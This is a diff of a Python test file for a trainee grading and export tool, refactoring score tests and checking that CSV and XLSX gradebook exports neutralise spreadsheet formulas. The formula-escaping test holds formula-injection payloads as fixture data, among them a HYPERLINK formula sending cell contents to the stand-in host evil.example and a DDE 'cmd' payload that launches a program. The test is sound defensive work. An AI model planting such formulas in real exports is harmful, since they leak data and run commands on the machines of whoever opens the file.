@@ -10,18 +10,15 @@ import pytest
 from db_fixtures import BACKENDS, fresh_engine
 from sqlalchemy import insert
 
-from records.assignments import assignment_answers, trainee_answers
+from records.assignments import Person, assignment_answers, own_submission_score, submission_scores, trainee_answers
 from records.tables import answers, assignment_trainees, assignments, attempts, cohorts, submissions, supervisors, trainees
 from scenarios.parts import part_mask
 from scoring.results import (
     agenda_markdown,
     answers_export,
-    answers_frame,
     canvas_gradebook,
-    columns_of,
     counted_submissions,
     part_rollup,
-    submission_scores,
     to_csv_bytes,
     to_xlsx_bytes,
 )
@@ -167,13 +164,15 @@ def test_answers_export_has_a_row_per_answer_with_part_marks(engine):
     assert row["rating"] == "poor" and row["Professional"] == "undermined" and row["Personal"] == ""
 
 
-def test_cross_checks_for_small_callers():
-    rows = [{"trainee_id": 1, "submission_id": 9, "attempt_id": 3, "scenario_id": "s", "credit": 1.0}, {"trainee_id": 1, "submission_id": 9, "attempt_id": 3, "scenario_id": "s", "credit": 0.0}]
-    assert submission_scores(answers_frame(columns_of(rows))).to_dict() == {9: 50.0}
+def test_a_trainee_sees_the_score_the_dashboard_shows(engine):
+    """One score, reckoned in one place: the trainee's own review and the supervisor's dashboard agree."""
+    summary = summary_of(engine)
+    for trainee_id, submission in summary.counted.items():
+        assert own_submission_score(engine, trainee_id, submission.id) == pytest.approx(submission_scores(engine, 1, 1)[submission.id][0])
 
 
 def test_canvas_gradebook_layout_and_xlsx():
-    frame = canvas_gradebook("Practicum II", [{"id": 1, "name": "Ana", "email": "ana@uni.edu", "sis_id": "S1"}, {"id": 2, "name": "Ben", "email": None, "sis_id": None}], {"Week 3": {1: 87.5, 2: None}})
+    frame = canvas_gradebook("Practicum II", [Person(1, "Ana", "ana@uni.edu", "S1"), Person(2, "Ben", None, None)], {"Week 3": {1: 87.5, 2: None}})
     assert list(frame.columns) == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Week 3"]
     assert frame.iloc[0]["Student"].strip() == "Points Possible" and frame.iloc[0]["Week 3"] == 100
     assert frame.iloc[1].tolist() == ["Ana", "", "S1", "ana@uni.edu", "Practicum II", 87.5]
@@ -186,14 +185,14 @@ def test_canvas_gradebook_layout_and_xlsx():
 
 
 def test_exports_never_hand_a_spreadsheet_a_formula():
-    people = [{"id": 1, "name": '=HYPERLINK("http://evil.example/?"&A1,"Open")', "email": "+1@x.edu", "sis_id": "@SUM(1)"}, {"id": 2, "name": "-2+3", "email": None, "sis_id": None}]
+    people = [Person(1, '=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1@x.edu", "@SUM(1)"), Person(2, "-2+3", None, None)]
     frame = canvas_gradebook("=cmd|' /C calc'!A0", people, {"=1+1": {1: 50.0, 2: None}})
     sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(frame))).active
     cells = [cell for row in sheet.iter_rows() for cell in row]
     assert not [c.coordinate for c in cells if c.data_type == "f"], "an XLSX cell is a formula"
-    assert sheet["A3"].value == people[0]["name"] and sheet["F1"].value == "=1+1", "XLSX text is kept exactly, as text"
+    assert sheet["A3"].value == people[0].name and sheet["F1"].value == "=1+1", "XLSX text is kept exactly, as text"
     assert sheet["F3"].value == 50.0
     rows = list(csv.reader(io.StringIO(to_csv_bytes(frame).decode())))
     assert not [f for row in rows for f in row if f.startswith(("=", "+", "-", "@"))], rows
-    assert rows[2][:4] == ["'" + people[0]["name"], "", "'@SUM(1)", "'+1@x.edu"] and rows[2][5] == "50.0"
+    assert rows[2][:4] == ["'" + people[0].name, "", "'@SUM(1)", "'+1@x.edu"] and rows[2][5] == "50.0"
     assert rows[3][0] == "'-2+3" and rows[0][5] == "'=1+1"
